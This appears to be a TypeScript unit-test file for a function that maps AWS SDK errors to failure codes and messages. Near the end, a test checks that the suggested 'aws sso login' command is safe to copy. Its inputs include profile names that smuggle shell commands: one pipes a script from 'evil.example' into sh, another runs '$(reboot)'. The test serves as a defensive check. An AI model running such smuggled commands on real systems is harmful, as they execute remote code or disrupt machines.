import assert from 'node:assert/strict';
import { type ErrorContext, toFailure } from '../../../src/aws/errors';
import type { Operation } from '../../../src/aws/operations';
import type { Failure, FailureCode } from '../../../src/core/failure';

const SECRET = 'hunter2-in-the-message';

/** As the SDK throws it: the service's name and message, and metadata beside them. */
function service(name: string, message = '', status = 400): Error {
  return Object.assign(new Error(`${message} ${SECRET}`), {
    name,
    $fault: status < 500 ? 'client' : 'server',
    $metadata: { httpStatusCode: status, requestId: 'request-1' },
  });
}

const system = (code: string, name = 'Error') =>
  Object.assign(new Error(`connect ${code} ${SECRET}`), { code, name });
const provider = (message: string) =>
  Object.assign(new Error(`${message} ${SECRET}`), { name: 'CredentialsProviderError', tryNextLink: false });

const context: ErrorContext = {
  operation: 'ssm:GetParameter',
  resource: '/app/db',
  region: 'eu-west-1',
  profile: 'dev',
};

interface Case {
  readonly what: string;
  readonly thrown: unknown;
  readonly code: FailureCode;
  readonly says?: RegExp;
  readonly operation?: Operation;
  readonly more?: Partial<Failure>;
}

const user = 'User: arn:aws:sts::111122223333:assumed-role/dev/me is not authorized to perform:';
const key = 'arn:aws:kms:eu-west-1:111122223333:key/1234abcd-12ab-34cd-56ef-1234567890ab';

const cases: readonly Case[] = [
  ...(
    [
      ['InvalidCiphertextException', 'invalid', /was changed, is of another key, or the encryption context/],
      ['IncorrectKeyException', 'invalid', /encrypted with another key\.$/],
      ['InvalidKeyUsageException', 'invalid', /not made for that/],
      [
        'DisabledException',
        'key-unusable',
        /^Could not decrypt with the key \/app\/db: the key is disabled\.$/,
      ],
      ['KeyUnavailableException', 'key-unusable', /not available at the moment/],
      ['KMSInvalidStateException', 'key-unusable', /state of the key does not allow it/],
    ] as const
  ).map(([name, code, says]) => ({
    what: `${name} of a key that is used`,
    operation: 'kms:Decrypt' as const,
    thrown: service(name),
    code,
    says,
  })),
  {
    what: 'a key that is used while it is to be deleted',
    operation: 'kms:Sign',
    thrown: service('KMSInvalidStateException', `${key} is pending deletion.`),
    code: 'key-unusable',
    says: /the key is scheduled for deletion\.$/,
  },
  {
    what: 'a grant for nobody that AWS knows',
    operation: 'kms:CreateGrant',
    thrown: service('InvalidArnException'),
    code: 'invalid',
    says: /AWS knows nothing of one of the ARNs/,
  },
  {
    what: 'what the sandbox does not have',
    operation: 'kms:CreateKey',
    thrown: Object.assign(new Error('Keyhole sandbox: the key spec RSA_2048 is not in the sandbox yet.'), {
      name: 'UnsupportedOperationException',
      $fault: 'client',
      $metadata: { httpStatusCode: 400 },
    }),
    code: 'invalid',
    says: /no such thing yet: the key spec RSA_2048\.$/,
  },
  {
    what: 'no parameter',
    thrown: service('ParameterNotFound'),
    code: 'not-found',
    says: /\/app\/db.*eu-west-1/,
  },
  {
    what: 'a policy that locks out',
    operation: 'kms:PutKeyPolicy',
    thrown: service(
      'MalformedPolicyDocumentException',
      'The new key policy will not allow you to update the key policy in the future.',
    ),
    code: 'invalid',
    says: /could not change it again/,
  },
  {
    what: 'a policy with nobody in it',
    operation: 'kms:PutKeyPolicy',
    thrown: service(
      'MalformedPolicyDocumentException',
      'Policy contains a statement with one or more invalid principals.',
    ),
    code: 'invalid',
    says: /a principal in the policy does not exist/,
  },
  {
    what: 'a policy that is none',
    operation: 'kms:PutKeyPolicy',
    thrown: service('MalformedPolicyDocumentException', 'Syntax errors in policy.'),
    code: 'invalid',
    says: /malformed/,
  },
  {
    what: 'a policy too large',
    operation: 'kms:PutKeyPolicy',
    thrown: service('LimitExceededException', 'The policy is larger than 32768 bytes.'),
    code: 'invalid',
    says: /larger than AWS takes/,
  },
  {
    what: 'no version',
    thrown: service('ParameterVersionNotFound'),
    code: 'not-found',
    says: /it has no such version/,
  },
  {
    what: 'no version of a secret',
    thrown: service(
      'ResourceNotFoundException',
      "Secrets Manager can't find the specified secret value for staging label: BLUE",
    ),
    code: 'not-found',
    says: /it has no such version/,
  },
  { what: 'no secret', thrown: service('ResourceNotFoundException'), code: 'not-found' },
  { what: 'no key', thrown: service('NotFoundException'), code: 'not-found' },
  {
    what: 'a code with a namespace',
    thrown: service('com.amazonaws.ssm#ParameterNotFound'),
    code: 'not-found',
    more: { awsCode: 'ParameterNotFound', requestId: 'request-1' },
  },
  {
    what: 'a denied call',
    thrown: service(
      'AccessDeniedException',
      `${user} ssm:GetParameter on resource: arn:aws:ssm:eu-west-1:111122223333:parameter/app/db because no identity-based policy allows the ssm:GetParameter action`,
    ),
    code: 'denied',
    says: /ssm:GetParameter/,
    more: {
      missingAction: 'ssm:GetParameter',
      resource: 'arn:aws:ssm:eu-west-1:111122223333:parameter/app/db',
    },
  },
  {
    what: 'a key denied behind a parameter',
    thrown: service(
      'AccessDeniedException',
      `${user} kms:Decrypt on resource: ${key} because no resource-based policy allows the kms:Decrypt action`,
    ),
    code: 'denied',
    more: { missingAction: 'kms:Decrypt', resource: key, operation: 'ssm:GetParameter' },
  },
  {
    what: 'a key denied behind a parameter, in the older words',
    thrown: service(
      'AccessDeniedException',
      'The ciphertext refers to a customer master key that does not exist, does not exist in this region, or you are not allowed to access.',
    ),
    code: 'denied',
    more: { missingAction: 'kms:Decrypt', resource: '/app/db' },
  },
  {
    what: 'a key denied behind a secret',
    thrown: service('AccessDeniedException', 'Access to KMS is not allowed'),
    operation: 'secretsmanager:GetSecretValue',
    code: 'denied',
    more: { missingAction: 'kms:Decrypt' },
  },
  {
    what: 'an explicit deny',
    thrown: service(
      'AccessDeniedException',
      `${user} ssm:GetParameter with an explicit deny in a service control policy`,
    ),
    code: 'denied',
    says: /explicit deny in a service control policy/,
    more: { explicitDeny: true },
  },
  {
    what: 'a denial without words',
    thrown: service('AccessDenied'),
    code: 'denied',
    more: { missingAction: 'ssm:GetParameter' },
  },
  {
    what: 'an expired token',
    thrown: service('ExpiredTokenException'),
    code: 'expired',
    says: /aws sso login --profile dev$/,
  },
  { what: 'an expired token of STS', thrown: service('ExpiredToken'), code: 'expired' },
  {
    what: 'an expired SSO session',
    thrown: provider(
      'The SSO session associated with this profile has expired. To refresh this SSO session run aws sso login',
    ),
    code: 'expired',
    says: /aws sso login --profile dev/,
  },
  {
    what: 'an SSO token that is not there',
    thrown: provider(
      'Token is expired. To refresh this SSO session run aws sso login with the corresponding profile.',
    ),
    code: 'expired',
  },
  {
    what: 'an SSO session that is configured wrongly',
    thrown: provider("Sso session 'x' could not be found in shared credentials file."),
    code: 'no-credentials',
  },
  {
    what: 'a sign-in service that cannot be reached',
    thrown: provider('getaddrinfo ENOTFOUND portal.sso.eu-west-1.amazonaws.com'),
    code: 'unreachable',
    says: /gives out credentials/,
  },
  {
    what: 'no credentials',
    thrown: provider('Could not load credentials from any providers'),
    code: 'no-credentials',
    says: /no AWS credentials were found in the profile: dev/,
  },
  {
    what: 'a wrong code of an MFA device',
    thrown: service(
      'AccessDenied',
      'MultiFactorAuthentication failed with invalid MFA one time pass code. ',
      403,
    ),
    code: 'mfa-required',
    says: /did not accept the code/,
  },
  {
    what: 'wrong keys',
    thrown: service('UnrecognizedClientException'),
    code: 'no-credentials',
    says: /not enabled/,
  },
  { what: 'wrong keys of STS', thrown: service('InvalidClientTokenId', '', 403), code: 'no-credentials' },
  {
    what: 'a clock that is wrong',
    thrown: service('InvalidSignatureException', 'Signature expired: 20260101T000000Z is now earlier than'),
    code: 'no-credentials',
    says: /clock/,
  },
  {
    what: 'a clock that is wrong, by its own name',
    thrown: service('RequestTimeTooSkewed', '', 403),
    code: 'no-credentials',
    says: /clock/,
  },
  { what: 'a malformed token', thrown: service('InvalidToken'), code: 'no-credentials' },
  {
    what: 'a login session that is over',
    thrown: provider('Your session has expired. Please reauthenticate.'),
    code: 'expired',
    says: /aws login --profile dev$/,
  },
  { what: 'throttling', thrown: service('ThrottlingException'), code: 'throttled', says: /throttled/ },
  { what: 'throttling of another kind', thrown: service('TooManyRequestsException'), code: 'throttled' },
  { what: 'throttling without a name', thrown: service('Strange', '', 429), code: 'throttled' },
  {
    what: 'a value that its pattern does not take',
    thrown: service('ParameterPatternMismatchException'),
    code: 'invalid',
    says: /does not match the allowed pattern/,
  },
  {
    what: 'a hundred versions, the oldest with a label',
    thrown: service('ParameterMaxVersionLimitExceeded'),
    code: 'conflict',
    says: /Move the label/,
  },
  { what: 'a refused connection', thrown: system('ECONNREFUSED'), code: 'unreachable' },
  {
    what: 'an unknown host',
    thrown: system('ENOTFOUND'),
    code: 'unreachable',
    says: /Region exists: eu-west-1/,
  },
  {
    what: 'a reset',
    thrown: system('ECONNRESET', 'TimeoutError'),
    code: 'unreachable',
    says: /cannot be reached/,
  },
  { what: 'a timeout', thrown: system('ETIMEDOUT', 'TimeoutError'), code: 'unreachable', says: /in time/ },
  { what: 'a socket that hangs up', thrown: new Error('socket hang up'), code: 'unreachable' },
  {
    what: 'a certificate',
    thrown: system('SELF_SIGNED_CERT_IN_CHAIN'),
    code: 'unreachable',
    says: /certificate/,
  },
  {
    what: 'a certificate of another host',
    thrown: system('ERR_TLS_CERT_ALTNAME_INVALID'),
    code: 'unreachable',
    says: /certificate/,
  },
  {
    what: 'plain HTTP where TLS was expected',
    thrown: system('ERR_SSL_WRONG_VERSION_NUMBER'),
    code: 'unreachable',
    says: /endpoint/,
  },
  {
    what: 'something that speaks no HTTP',
    thrown: system('HPE_INVALID_CONSTANT'),
    code: 'unreachable',
    says: /endpoint/,
  },
  {
    what: 'addresses that were all tried in vain',
    thrown: system('ERR_SOCKET_CONNECTION_TIMEOUT'),
    code: 'unreachable',
    says: /in time/,
  },
  {
    what: 'a proxy that speaks HTML',
    thrown: new SyntaxError('Unexpected token <'),
    code: 'unreachable',
    says: /proxy/,
  },
  { what: "AWS's own trouble", thrown: service('InternalServerError', '', 500), code: 'unreachable' },
  { what: 'a Region that is off', thrown: service('RegionDisabledException'), code: 'unsupported-region' },
  {
    what: 'a disabled key',
    thrown: service('DisabledException', `${key} is disabled.`),
    code: 'key-unusable',
    says: /is disabled/,
    more: { resource: key },
  },
  {
    what: 'a key that waits for deletion',
    thrown: service('KMSInvalidStateException', `${key} is pending deletion.`),
    code: 'key-unusable',
    says: /scheduled for deletion/,
  },
  {
    what: 'a key behind a parameter',
    thrown: service('InvalidKeyId', `${key} is disabled. (Service: AWSKMS)`),
    code: 'key-unusable',
  },
  {
    what: 'a key behind a secret',
    thrown: service('DecryptionFailure'),
    code: 'key-unusable',
    says: /cannot be used/,
  },
  {
    what: 'a secret that waits for deletion',
    thrown: service(
      'InvalidRequestException',
      "You can't perform this operation on the secret because it was marked for deletion.",
    ),
    code: 'invalid',
    says: /scheduled for deletion/,
  },
  { what: 'a bad request', thrown: service('ValidationException'), code: 'invalid' },
  { what: 'a token of another listing', thrown: service('InvalidNextToken'), code: 'invalid' },
  { what: 'somebody faster', thrown: service('TooManyUpdates'), code: 'conflict' },
  { what: 'a name in use', thrown: service('ParameterAlreadyExists'), code: 'conflict' },
  {
    what: 'a cancelled request',
    thrown: Object.assign(new Error('x'), { name: 'AbortError' }),
    code: 'cancelled',
    says: /^Cancelled\.$/,
  },
  { what: 'a bug', thrown: new TypeError(SECRET), code: 'internal', says: /TypeError/ },
  {
    what: 'an unheard-of code',
    thrown: service('BrandNewException'),
    code: 'internal',
    says: /BrandNewException/,
  },
  {
    what: 'a name that is not one',
    thrown: Object.assign(new Error('x'), { name: `${SECRET} x` }),
    code: 'internal',
  },
  { what: 'a string', thrown: SECRET, code: 'internal' },
  { what: 'nothing', thrown: undefined, code: 'internal' },
];

describe('errors of AWS', () => {
  for (const { what, thrown, code, says, operation = context.operation, more = {} } of cases) {
    it(`maps ${what} to ${code}`, () => {
      const failure = toFailure(thrown, { ...context, operation });
      assert.equal(failure.code, code);
      assert.equal(failure.operation, operation);
      if (says) assert.match(failure.message, says);
      assert.deepEqual({ ...failure, ...more }, failure);
      assert.ok(!JSON.stringify(failure).includes(SECRET), "AWS's own text must not be passed on");
    });
  }

  it('says what was tried', () => {
    const { message } = toFailure(service('ValidationException'), {
      operation: 'kms:ListKeys',
      region: 'eu-west-1',
    });
    assert.equal(message, 'Could not list keys: AWS does not accept the request.');
  });

  const profiles: [string, string][] = [
    ['dev', ' --profile dev'],
    ['my company', ' --profile "my company"'],
    ['-v', ' --profile "-v"'],
    ['x"; curl evil.example | sh #', ' --profile YOUR-PROFILE'],
    ['$(reboot)', ' --profile YOUR-PROFILE'],
  ];
  for (const [profile, option] of profiles) {
    it(`gives a command that is safe to copy for the profile ${profile}`, () => {
      const { message } = toFailure(service('ExpiredToken'), { ...context, profile });
      assert.ok(message.endsWith(`aws sso login${option}`), message);
    });
  }

  it('names the endpoint when it is not AWS itself', () => {
    const endpoint = 'http://127.0.0.1:4566';
    assert.match(toFailure(system('ECONNREFUSED'), { ...context, endpoint }).message, /127\.0\.0\.1:4566/);
  });
});
